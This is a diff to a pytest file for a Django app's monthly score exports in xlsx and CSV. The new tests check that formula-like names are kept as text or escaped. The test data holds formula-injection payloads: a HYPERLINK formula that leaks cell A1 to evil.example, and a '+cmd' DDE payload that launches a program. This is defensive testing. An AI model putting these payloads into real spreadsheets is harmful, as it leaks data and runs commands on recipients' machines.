@@ -1,5 +1,6 @@
 """The month's tables as .xlsx and CSV: sheets, Chinese headers, number formats, the BOM, the
-file names, and who may download which rows."""
+file names, who may download which rows, and names that look like spreadsheet formulas kept as
+text, never evaluated."""
 
 import csv
 import datetime
@@ -11,6 +12,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from assessments.models import Score
 from tests.assessments import scored
 
 pytestmark = pytest.mark.django_db
@@ -21,6 +23,7 @@ fast_password_hashing = scored.fast_password_hashing
 NOW = datetime.datetime(2026, 11, 22, 10, 0, tzinfo=zoneinfo.ZoneInfo("Asia/Shanghai"))
 XLSX_URL = reverse("assessments:export_xlsx", kwargs={"month": "2026-10"})
 CSV_URL = reverse("assessments:export_csv", kwargs={"month": "2026-10"})
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 @pytest.fixture(autouse=True)
@@ -143,3 +146,30 @@ def test_export_runs_a_constant_number_of_queries(
     scored.more_officers(october.run, october.officer_gulou.brigade, 30)
     with django_assert_max_num_queries(len(small.captured_queries)):
         client.get(XLSX_URL)
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_xlsx(client, assessor, october):
+    Score.objects.filter(pk=october.scores["officer_gulou"].pk).update(name=EVIL)
+    client.force_login(assessor)
+    sheet = load_workbook(io.BytesIO(client.get(XLSX_URL).content)).worksheets[0]
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == EVIL]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"
+
+
+@pytest.mark.parametrize("name", [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
+def test_a_name_that_looks_like_a_formula_is_quoted_in_the_csv(client, assessor, october, name):
+    Score.objects.filter(pk=october.scores["officer_gulou"].pk).update(name=name)
+    client.force_login(assessor)
+    text = client.get(CSV_URL + "?kind=officer").content.decode("utf-8-sig")
+    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
+    assert "'" + name in names
+    assert name not in names
+
+
+def test_the_workbook_speaks_chinese_by_default(client, assessor, october):
+    client.force_login(assessor)
+    book = load_workbook(io.BytesIO(client.get(XLSX_URL, HTTP_ACCEPT_LANGUAGE="zh-hans").content))
+    assert book.sheetnames == ["队员", "大队", "责任单位", "社区", "街道", "区"]
+    headers = [cell.value for cell in book.worksheets[0][1]]
+    assert headers[:7] == ["排名", "名称", "执法证号", "大队", "综合得分", "等次", "环比"]
